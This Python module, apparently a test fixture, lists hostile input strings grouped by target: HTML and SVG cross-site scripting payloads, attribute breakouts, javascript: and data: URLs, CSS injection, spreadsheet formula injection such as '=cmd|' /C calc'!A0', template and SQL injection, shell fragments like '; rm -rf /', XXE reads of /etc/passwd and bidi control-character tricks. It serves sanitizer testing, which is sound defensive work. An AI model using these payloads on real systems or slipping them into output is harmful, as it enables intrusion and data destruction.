"""Texts that try to be more than text, by what they attack."""

from __future__ import annotations

HTML = r"""
<script>alert(1)</script>
<SCRIPT SRC=//x.example/a.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>alert(1)
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
</textarea><b>out</b>
</noscript><b>out</b>
</body></html><p>after
</main></section></article><h1>after</h1>
</p></td></tr></table><hr>
</q></li></ol><ul><li>more
</bdi></b></span><i>more
<b>bold</b>
<i>italic
<p>
<br>
<hr/>
<h1>heading</h1>
<ul><li>item</ul>
<table><tr><td>cell</table>
<td>cell<td>cell
<tr><th scope=row>row<td>1
<caption>caption
<select><option>a<option>b</select>
<form action=//x.example><input name=q><button>go</button></form>
<input type=radio name=show id=all checked>
<iframe src=//x.example></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">
<object data=//x.example></object>
<embed src=//x.example>
<base href=//x.example/>
<link rel=stylesheet href=//x.example/a.css>
<meta http-equiv=refresh content="0;url=//x.example">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<template><b>x</b></template>
<slot name=x></slot>
<dialog open>x</dialog>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<plaintext>
<xmp><b>x</b></xmp>
<noscript><b>x</b></noscript>
<frameset><frame src=//x.example></frameset>
<!-- comment -->
<!--
-->
--!>
<!DOCTYPE html>
<?php echo 1 ?>
<?xml version="1.0"?>
<![CDATA[<b>x</b>]]>
]]>
<%= 7 * 7 %>
<x-custom onclick=alert(1)>x</x-custom>
< b>x</ b>
<b
<b x='
<a/b/c>x
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
"""

ATTRIBUTES = r"""
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
`><img src=x onerror=alert(1)>
x onerror=alert(1)
x style=display:none
" style="display:none
" hidden x="
" id="main
" class="alerts
" dir="rtl
" lang="ar
" aria-hidden="true
" href="javascript:alert(1)
" src="//x.example/p.png
"/><b>
">
'>
"
'
"=""
"''"
&quot; onclick=&quot;alert(1)
&#34; onclick=&#34;alert(1)
&#x22;&#x3E;&#x3C;b&#x3E;
\" onclick=\"alert(1)
\u0022\u003e\u003cb\u003e
=x
x=y
"""

ADDRESSES = r"""
javascript:alert(1)
JaVaScRiPt:alert(1)
java&#115;cript:alert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
vbscript:msgbox(1)
file:///etc/passwd
http://x.example
https://x.example/?q=1&amp;r=2#x
HTTP://X.EXAMPLE/
ftp://x.example/a
mailto:a@x.example
tel:+123456789
//x.example/a
www.x.example
WWW.x.example/path
x.example
somebody@x.example
some.body+tag@x.example.org
xmpp:a@x.example/r
<http://x.example>
<a@x.example>
<a href=http://x.example>x</a>
<img src=http://x.example/p.png>
../../etc/passwd
\\x.example\share
ssh://git@x.example/r.git
blob:http://x.example/1
http://[::1]/
magnet:?xt=urn:x
"""

STYLES = r"""
</style><style>*{display:none}</style>
<style>.alerts{display:none}</style>
body{background:url(//x.example)}
@import url(//x.example/a.css);
expression(alert(1))
*/ } .alerts { display: none } /*
;background:url(javascript:alert(1))
\3c b\3e
}</style>
:root{--x:url(//x.example)}
"""

PICTURES = r"""
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><style>*{display:none}</style></svg>
<svg><foreignObject><b>x</b></foreignObject></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><use href="//x.example/a.svg#x"/></svg>
<svg><image href="//x.example/p.png"/></svg>
<svg><animate onbegin=alert(1) attributeName=x></svg>
<svg><set attributeName=href to=javascript:alert(1)></svg>
</svg><b>out
</text></svg><script>alert(1)</script>
</desc></title><rect width=100 height=100>
<rect width="100%" class="value">
<title>other</title>
"""

MARKDOWN = r"""
# heading
## heading ##
heading\n===
heading\n---
---
***
___
* * *
- item
+ item
* item
1. item
1) item
999999999. item
- [ ] task
- [x] task
> quote
>quote
    code block
```\ncode\n```
~~~\ncode\n~~~
`code`
``code` code``
`
```
*emphasis*
**strong**
_emphasis_
__strong__
~struck~
~~struck~~
[link](http://x.example)
[link](javascript:alert(1))
[link]( <http://x.example> "title")
[link][1]\n\n[1]: http://x.example
[1]: http://x.example
![image](http://x.example/p.png)
![image][1]
[![image](http://x.example/p.png)](http://x.example)
[^1]
[^1]: note
^[note]
<details><summary>x</summary></details>
<img src=http://x.example/p.png>
line\nline
line  \nline
line\\\nline
paragraph\n\nparagraph
\n\n# heading\n\n<div>\n\n
\
\\
\*
ends with a backslash\
| a | b |
a | b
|
||
\|
a \| b
a | b\n--- | ---\n1 | 2
|---|---|
:---:
:-- | --:
&nbsp;
&lt;b&gt;
&amp;lt;
&#60;b&#62;
&copy
&#0;
&#x202E;x
$x^2$
$$x$$
$`x`$
:smile:
:+1:
<!-- x -->
[[wiki]]
==mark==
{: .class}
!!! note
::: note
[toc]
"""

HOSTS = r"""
@somebody
hello @somebody and @some-body
@org/team
(@somebody)
#1
fixes #1
closes org/repo#12
GH-1
gh-12 and GH-34
org/repo@0123456789abcdef0123456789abcdef01234567
0123456789abcdef0123456789abcdef01234567
https://github.com/org/repo/issues/1
!1
&1
%1
~label
$1
"""

CELLS = r"""
=1+1
=cmd|' /C calc'!A0
=HYPERLINK("http://x.example","x")
+1+1
+cmd|' /C calc'!A0
-1+1
-2+3+cmd|' /C calc'!A0
@SUM(1+1)
@A1
;=1+1
,=1+1
"=1+1"
"",=1+1
'=1+1
x"\n=1+1
x\n=1+1
\t=1+1
\r=1+1
\r\n=1+1
 =1+1
＝1+1
＋1+1
－1+1
＠SUM(1)
a,b
a;b
a\tb
a"b
"a
"
=IMPORTXML("http://x.example","//a")
%0A=1+1
"""

CHARACTERS = [
    "left \u202e right", "\u202d x", "\u202a x \u202c", "\u202b x", "\u2066 x \u2069", "\u2067 x", "\u2068 x", "\u2069\u2069 x",
    "\u202e<b>x</b>", "\u200e x", "\u200f x", "\u061c x", "x\u200b<b>", "<\u200dscript>", "\ufeff<b>", "a\u0301<b>", "\"\u0301 onclick=x",
    "<\u0338b>", "x\u2028<b>", "x\u2029<b>", "x\u0085<b>", "x\u00a0=1", "x\u00ad<b>", "\u0130\u0131<b>", "\uff1cscript\uff1e",
    "\u02ba onclick=x", "\ufdd0<b>", "\uffff<b>", "\ufffd<b>", "\U0001fffe<b>", "\U000e0001 tag", "\U000e0041\U000e007f<b>",
    "x\x00<b>", "x\x01<b>", "x\x08<b>", "x\x0b<b>", "x\x0c<b>", "x\x1b[31m<b>", "x\x1b]0;title\x07", "x\x7f<b>", "x\x9b31m",
    "x\r<b>", "x\r\n<b>", "\tx", "مرحبا <b>", "<b>שלום</b>", "مرحبا | a", "שלום @somebody", "Z" + "\u0301" * 60 + "<b>",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 <b>", "x" * 79, "<" * 70, "*" * 70, "[" * 70, "`" * 70, "|" * 70, "&" * 70, "\\" * 69,
]

TEMPLATES = r"""
{{7*7}}
{{constructor.constructor('alert(1)')()}}
${7*7}
#{7*7}
<%=7*7%>
{%raw%}x{%endraw%}
{location.name}
{instance}
{{{x}}}
{0} {count} {score} {section}
%s %d %n
%1$s
\(x)
$(id)
`id`
; rm -rf /
' OR '1'='1
'); DROP TABLE visits; --
&lolzb;
<!ENTITY x SYSTEM "file:///etc/passwd">
<xi:include href="file:///etc/passwd"/>
\u003cb\u003e
%3Cb%3E
\x3cb\x3e
__proto__
null
NaN
"""


def lines(text: str) -> list[str]:
    r"""One payload a line; `\n`, `\r` and `\t` stand for what a line cannot hold."""
    found = []
    for line in text.strip("\n").split("\n"):
        for written, meant in (("\\n", "\n"), ("\\r", "\r"), ("\\t", "\t")):
            line = line.replace(written, meant)
        found.append(line)
    return found


GROUPS = {
    "html": lines(HTML), "attribute": lines(ATTRIBUTES), "address": lines(ADDRESSES), "style": lines(STYLES),
    "picture": lines(PICTURES), "markdown": lines(MARKDOWN), "host": lines(HOSTS), "cell": lines(CELLS), "character": CHARACTERS,
    "template": lines(TEMPLATES),
}
